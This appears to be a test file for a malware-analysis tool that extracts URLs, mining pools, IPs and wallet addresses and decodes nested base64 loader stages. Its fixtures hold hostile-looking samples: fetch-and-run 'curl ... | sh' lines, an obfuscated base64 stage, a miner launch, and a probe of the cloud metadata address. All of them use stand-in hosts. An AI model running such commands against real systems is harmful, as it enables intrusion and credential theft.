"""IOC extraction from strings: URLs, pools, domains, IPs, wallets, with checksums and noise
filters."""

from __future__ import annotations

from detonate.static.base64_stage import decoded_stages
from detonate.static.indicators import find_indicators, valid_base58check, valid_bech32

MONERO = "4A" + ("FakeMoneroWa11etForDetonateTestsXmr" * 3)[:93]
BITCOIN = "1CyBAsM8abCcYRN9mvXUMvxTzxAWNGuGmZ"  # valid checksum, made-up hash
BECH32 = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"  # BIP 173 test vector


def test_urls_pools_domains_and_ips() -> None:
    found = find_indicators(
        b"wget http://x.test/p.sh; ./w -o stratum+tcp://pool.test:3333, "
        b"stratum+ssl://203.0.113.9:443 and 198.51.100.7."
    )
    assert found.urls == {"http://x.test/p.sh"}
    assert found.pools == {"stratum+tcp://pool.test:3333", "stratum+ssl://203.0.113.9:443"}
    assert found.domains == {"x.test", "pool.test"}
    assert found.ips == {"203.0.113.9", "198.51.100.7"}


def test_uninteresting_addresses_and_version_numbers_are_dropped() -> None:
    found = find_indicators(b"listen 0.0.0.0 127.0.0.1 255.255.255.0 224.0.0.1 v1.2.3.4.5 9.9.9")
    assert found.ips == set()
    assert find_indicators(b"curl http://169.254.169.254/latest/").ips == {"169.254.169.254"}


def test_wallets_by_shape_and_checksum() -> None:
    found = find_indicators(f"-u {MONERO} btc={BITCOIN} {BECH32}".encode())
    assert found.wallets == {MONERO: "monero", BITCOIN: "bitcoin", BECH32: "bitcoin"}
    assert not valid_base58check(BITCOIN[:-1] + "Y")
    assert not valid_bech32(BECH32[:-1] + "5")


def test_monero_inside_a_longer_base58_run_is_not_a_wallet() -> None:
    assert find_indicators(("x" + MONERO + "zz").encode()).wallets == {}


def test_binary_strings_are_searched() -> None:
    data = b"\x7fELF\x00\x01" + b"\x00stratum+tcp://pool.test:14444\x00" + b"\xff" * 8
    assert find_indicators(data).pools == {"stratum+tcp://pool.test:14444"}


def test_nested_base64_stages_are_decoded() -> None:
    inner = "Y3VybCBodHRwOi8veC50ZXN0L3Auc2ggfCBzaA=="  # curl http://x.test/p.sh | sh
    outer = "ZWNobyBZM1Z5YkNCb2RIUndPaTh2ZUM1MFpYTjBMM0F1YzJnZ2ZDQnphQT09IHwgYmFzZTY0IC1kIHwgc2g="
    stages = decoded_stages(f"echo {outer} | base64 -d | sh")
    assert stages == (f"echo {inner} | base64 -d | sh", "curl http://x.test/p.sh | sh")
    assert decoded_stages(f"echo {inner}") == ()  # no decode command, nothing decoded
